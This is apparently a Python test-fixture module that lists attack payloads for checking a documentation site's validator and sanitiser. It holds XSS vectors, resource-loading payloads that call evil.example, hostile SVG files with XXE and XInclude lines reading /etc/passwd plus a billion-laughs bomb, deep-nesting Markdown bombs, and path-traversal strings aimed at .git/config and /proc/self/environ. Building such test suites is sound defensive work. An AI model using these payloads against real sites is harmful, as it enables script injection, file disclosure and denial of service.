"""Attack payloads: the ones issue 7 found live, plus the usual XSS and
resource-loading families. Every script payload calls alert(), every loading
payload names evil.example, so the browser test sees a dialog or a request
leaving the site if one survives.

TEXT goes into every YAML text field (one line or several); MARKDOWN into
case.md and a hand-written page, as an organiser pasting HTML would.
"""

EVIL = "http://evil.example"

SCRIPT = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<img src=x onerror=alert(1)>",
    "<img src=x\nonerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>点</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=\"javascript:alert(1)\">点</math>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<div onmouseover=alert(1)>移过来</div>",
    "<p onclick=alert(1)>点我</p>",
    "<a onfocus=alert(1) autofocus href=#>x</a>",
    "<span tabindex=1 autofocus onfocusin=alert(1)>x</span>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>链接</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">链接</a>",
    "<a href=\"&#106;avascript:alert(1)\">链接</a>",
    "<a href=\"javascript&#58;alert(1)\">链接</a>",
    "<a href=\"java&#x09;script:alert(1)\">链接</a>",
    "<a href=\"jav&#x0A;ascript:alert(1)\">链接</a>",
    "<a href=\" &#14; javascript:alert(1)\">链接</a>",
    "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)\">链接</a>",
    "<a href=\"vbscript:msgbox(1)\">链接</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">链接</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">链接</a>",
    "[链接](javascript:alert(1))",
    "[链接](JAVASCRIPT:alert(1))",
    "[链接](&#106;avascript:alert(1))",
    "[链接](javascript&#58;alert(1))",
    "[链接](data:text/html,<script>alert(1)</script>)",
    "[链接](vbscript:msgbox(1))",
    "[链接][r]\n\n[r]: javascript:alert(1)",
    "[链接][e]\n\n[e]: &#106;avascript:alert(1)",
    "[链接](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    "[链接](java\nscript:alert(1))",
    "![图](javascript:alert(1))",
    "<form action=javascript:alert(1)><button>提交</button></form>",
    "<form><button formaction=javascript:alert(1)>提交</button></form>",
    "<isindex action=javascript:alert(1) type=image>",
    "<base href=javascript:alert(1)//>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<div markdown>[链接](javascript:alert(1))</div>",
    "<div markdown=\"1\"><img src=x onerror=alert(1)></div>",
    "茶园 {: tabindex=1 autofocus onfocus=alert(1) }",
    "标题 {: onclick=alert(1) }",
    "文字 {: style=\"background:url(http://evil.example/a.png)\" }",
    "{: .mermaid }",
    "<pre class=\"mermaid\">graph TD; A-->B</pre>",
    "<pre class=\"&#109;ermaid\">graph TD; A-->B</pre>",
    "<div class=\"mermaid\">graph TD; A-->B</div>",
    "```mermaid\ngraph TD; A-->B\n```",
    "!!! danger \"<img src=x onerror=alert(1)>\"\n    警告框",
    "!!! danger \"系统警告\"",
    "??? note \"<svg/onload=alert(1)>\"\n    折叠",
    "# 一级标题 <img src=x onerror=alert(1)>",
    "- 列表 <svg/onload=alert(1)>",
    "> 引用 <img src=x onerror=alert(1)>",
    "1. 编号",
    "---\ntitle: x\n---",
    "title\n---\n<script>alert(1)</script>",
    "`<img src=x onerror=alert(1)>`",
    "`` ` ``<svg/onload=alert(1)>",
    "*[HTML]: <img src=x onerror=alert(1)>",
    "\\<script>alert(1)\\</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "\"><svg/onload=alert(1)>",
    "{{ config.site_name }}{% raw %}",
    "x</a><a href=javascript:alert(1)>y",
]

LOADING = [
    f"<img src={EVIL}/a.png>",
    "<img src=//evil.example/a.png>",
    f"<img src=\"&#104;ttp://evil.example/a.png\">",
    f"<img src=\"local.png\" srcset=\"local.png 1x, {EVIL}/b.png 2x\">",
    f"<picture><source srcset={EVIL}/c.png><img src=local.png></picture>",
    f"![图]({EVIL}/d.png)",
    "![图](//evil.example/e.png)",
    "![图][pic]\n\n[pic]: http://evil.example/f.png",
    f"<video poster={EVIL}/g.png></video>",
    f"<audio src={EVIL}/h.mp3></audio>",
    f"<link rel=stylesheet href={EVIL}/i.css>",
    f"<style>@import '{EVIL}/j.css';</style>",
    "<style>@import/**/\"http://evil.example/k.css\";</style>",
    f"<style>body{{background:url({EVIL}/l.png)}}</style>",
    "<style>body{background:url(\\68ttp://evil.example/m.png)}</style>",
    f"<div style=\"background:url({EVIL}/n.png)\">x</div>",
    f"<div style=\"background-image:image-set('{EVIL}/o.png' 1x)\">x</div>",
    "<div style=\"background:url(&#104;ttp://evil.example/p.png)\">x</div>",
    "<div style=\"background:u\\72l(http://evil.example/q.png)\">x</div>",
    f"<svg><image href=\"{EVIL}/r.png\"/></svg>",
    f"<svg><use href=\"{EVIL}/s.svg#x\"/></svg>",
    f"<a ping=\"{EVIL}/t\" href=\"#\">链接</a>",
    f"<object data=\"{EVIL}/u.swf\"></object>",
    f"<embed src=\"{EVIL}/v.swf\">",
    f"<iframe src=\"{EVIL}/w.html\"></iframe>",
    f"<table background=\"{EVIL}/x.png\"><tr><td>x</td></tr></table>",
    f"<body background=\"{EVIL}/y.png\">",
    f"<input type=image src=\"{EVIL}/z.png\">",
    f"<meta http-equiv=refresh content=\"0;url={EVIL}/\">",
    f"<base href=\"{EVIL}/\">",
    f"<script src=\"{EVIL}/1.js\"></script>",
    f"<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\">",
    "<img src=\"data:image/png;base64,iVBORw0KGgo=\">",
    f"<link rel=prefetch href=\"{EVIL}/2\">",
    f"<link rel=icon href=\"{EVIL}/3.ico\">",
]

TEXT = SCRIPT + LOADING

# Shown to the validator and the sanitiser as whole blocks of case.md.
MARKDOWN = TEXT + [
    "```x```\n<script>alert(1)</script>",
    "<img src=x\nonerror=alert(1)>",
    "[链接](javascript:\nalert(1))",
    "<div markdown>\n\n[链接](javascript:alert(1))\n\n</div>",
    "段落\n{: onclick=alert(1) tabindex=1 }",
    f"<div>\n<img\nsrc=\"{EVIL}/split.png\">\n</div>",
]

# For url fields: they start like a URL, so only a URL check refuses them.
URLS = [
    "http://x/`<svg/onload=alert(1)>",
    "https://evil.example/\"onmouseover=\"alert(1)",
    "https://evil.example/'><img src=x onerror=alert(1)>",
    "http://evil.example/ <script>alert(1)</script>",
    "https://evil.example/a_b_*c*[d](javascript:alert(1))",
    "https://evil.example/{: onclick=alert(1) }",
    "http://evil.example/&#106;avascript:alert(1)",
    "https://evil.example/path?q=1&r=2#frag",
    "http:///no-host",
    "https://",
    "javascript://example.org/%0Aalert(1)",
    "http://evil.example\\@good.example/",
]

# SVG files beside a case (cases/<id>/x.svg, shown with ![图](x.svg)): opened
# on their own they are pages of the site. Every one must be refused.
SVG_NS = 'xmlns="http://www.w3.org/2000/svg"'
SVG_FILES = {
    "prefixed-script": '<svg xmlns="http://www.w3.org/2000/svg"><s:script xmlns:s="http://www.w3.org/2000/svg">'
                       "alert(1)</s:script></svg>",
    "script-after-600k-comment": f"<svg {SVG_NS}><!--{'x' * 600_000}--><script>alert(1)</script></svg>",
    "entity-javascript": f'<svg {SVG_NS} xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="&#106;avascript:'
                         'alert(1)"><text y="20">点</text></a></svg>',
    "hex-entity-javascript": f'<svg {SVG_NS}><a href="&#x6A;&#x61;vascript:alert(1)"><text y="20">点</text></a></svg>',
    "tab-in-javascript": f'<svg {SVG_NS}><a href="java&#9;script:alert(1)"><text y="20">点</text></a></svg>',
    "script-cdata": f"<svg {SVG_NS}><script><![CDATA[alert(1)]]></script></svg>",
    "script-uppercase-ns": '<SVG xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></SVG>',
    "xhtml-script": f'<svg {SVG_NS}><h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script></svg>',
    "default-ns-xhtml": f'<svg {SVG_NS}><g><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script></g></svg>',
    "foreignObject": f'<svg {SVG_NS}><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" '
                     'src="javascript:alert(1)"/></foreignObject></svg>',
    "onload": f'<svg {SVG_NS} onload="alert(1)"/>',
    "onload-newline": f'<svg {SVG_NS}\nonload\n=\n"alert(1)"/>',
    "xlink-onclick": f'<svg {SVG_NS}><rect width="9" height="9" ONCLICK="alert(1)"/></svg>',
    "set-href": f'<svg {SVG_NS}><a><set attributeName="href" to="javascript:alert(1)"/><text y="20">点</text></a></svg>',
    "animate-values": f'<svg {SVG_NS}><a href="#x"><animate attributeName="href" values="javascript:alert(1)"/>'
                      '<text y="20">点</text></a></svg>',
    "use-outside": f'<svg {SVG_NS}><use href="http://evil.example/s.svg#x"/></svg>',
    "use-other-file": f'<svg {SVG_NS}><use href="other.svg#x"/></svg>',
    "image-outside": f'<svg {SVG_NS}><image href="//evil.example/a.png" width="9" height="9"/></svg>',
    "image-data": f'<svg {SVG_NS}><image href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" width="9" height="9"/></svg>',
    "feImage-outside": f'<svg {SVG_NS}><filter id="f"><feImage href="http://evil.example/f.png"/></filter></svg>',
    "style-import": f"<svg {SVG_NS}><style>@import url(http://evil.example/a.css);</style></svg>",
    "style-url": f"<svg {SVG_NS}><style>rect{{fill:url(http://evil.example/a.svg#g)}}</style></svg>",
    "style-escaped-url": f"<svg {SVG_NS}><style>rect{{background:u\\72l(http://evil.example/a.png)}}</style></svg>",
    "style-comment-url": f"<svg {SVG_NS}><style>rect{{fill:url/**/(http://evil.example/a.png)}}</style></svg>",
    "style-attr-url": f'<svg {SVG_NS}><rect width="9" height="9" style="fill:url(&quot;http://evil.example/a&quot;)"/></svg>',
    "fill-url-outside": f'<svg {SVG_NS}><rect width="9" height="9" fill="url(http://evil.example/a.svg#g)"/></svg>',
    "xml-stylesheet": f'<?xml-stylesheet href="http://evil.example/a.css"?><svg {SVG_NS}/>',
    "doctype-entity": f'<!DOCTYPE svg [<!ENTITY x "javascript:alert(1)">]><svg {SVG_NS}><a href="&x;"/></svg>',
    "billion-laughs": '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
                      '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>'
                      f"<svg {SVG_NS}><text>&d;&d;&d;&d;&d;&d;&d;&d;</text></svg>",
    "external-entity": f'<!DOCTYPE svg [<!ENTITY e SYSTEM "file:///etc/passwd">]><svg {SVG_NS}><text>&e;</text></svg>',
    "xinclude": f'<svg {SVG_NS}><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd"/></svg>',
    "xml-base": f'<svg {SVG_NS} xml:base="http://evil.example/"><use href="#x"/></svg>',
    "html-not-svg": "<html><body><script>alert(1)</script><svg></svg></body></html>",
    "not-xml": "<svg><script>alert(1)</svg>",
    "no-svg": "<p>hello</p>",
}
# Drawings as editors save them: accepted.
SVG_OK = {
    "plain": f'<svg {SVG_NS} viewBox="0 0 10 10"><rect x="1" y="1" width="8" height="8" fill="#070"/></svg>',
    "inkscape": '<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n<!-- Created with Inkscape -->\n'
                '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
                'xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" '
                'xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" '
                'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:cc="http://creativecommons.org/ns#" '
                'xmlns:dc="http://purl.org/dc/elements/1.1/" width="210mm" height="297mm" version="1.1">\n'
                '<sodipodi:namedview id="nv" pagecolor="#ffffff" inkscape:zoom="0.5"/>\n'
                '<defs><linearGradient id="g"><stop offset="0" style="stop-color:#fff;stop-opacity:1"/></linearGradient>'
                '<clipPath id="c"><rect width="5" height="5"/></clipPath></defs>\n'
                '<metadata><rdf:RDF><cc:Work rdf:about=""><dc:format>image/svg+xml</dc:format>'
                '<dc:type rdf:resource="http://purl.org/dc/dcmitype/StillImage"/></cc:Work></rdf:RDF></metadata>\n'
                '<g inkscape:label="图层 1" inkscape:groupmode="layer" clip-path="url(#c)">'
                '<path d="M 0,0 L 10,10" style="fill:url(#g);stroke:#000;font-family:\'Microsoft YaHei\'"/>'
                '<use xlink:href="#c" x="2"/><text xml:space="preserve" x="1" y="9">茶园 &amp; 村</text></g>\n</svg>\n',
    "style-local": f'<svg {SVG_NS}><style>.a{{fill:url(#g)}} /* 注释 */</style><a href="#top"><circle r="3" class="a"/></a></svg>',
}

# Markdown an organiser may paste into case.md or a docs/ page that nests
# deeper than Python-Markdown's recursion allows, or that is huge on one line:
# each must be refused with a message (no RecursionError, no stall).
DEEP_MARKDOWN = {
    "list-markers-on-one-line": "- " * 800 + "x",
    "star-markers": "* " * 800 + "x",
    "numbered-markers": "1. " * 800 + "x",
    "quote-and-list": "> - " * 400 + "x",
    "nested-div-markdown": '<div markdown="1">\n' * 331 + "x\n" + "</div>\n" * 331,
    "nested-div-one-line": '<div markdown="1">' * 400 + "x" + "</div>" * 400,
    "indented-lists": "".join("    " * i + "- a\n" for i in range(260)),
    "nested-admonitions": "\n".join("    " * i + "!!! note" for i in range(300)) + "\n" + "    " * 300 + "x",
    "emphasis-run": "*" * 2500 + "x" + "*" * 2500,
    "underscore-run": "_" * 2500 + "x" + "_" * 2500,
}

# Image targets in case.md / a handbook chapter that leave the item's folder
# however they are encoded; the PDF build used to open them.
OUTSIDE_PATHS = [
    "%2e%2e/%2e%2e/%2e%2e/etc/passwd.png",
    "%2E%2E/mimi/secret.png",
    ".%2e/mimi/secret.png",
    "%2e%2e%2fmimi%2fsecret.png",
    "img%5c..%5c..%5csecret.png",
    "%2e%2e/.git/config.png",
    "..%2f..%2fproc/self/environ.png",
]
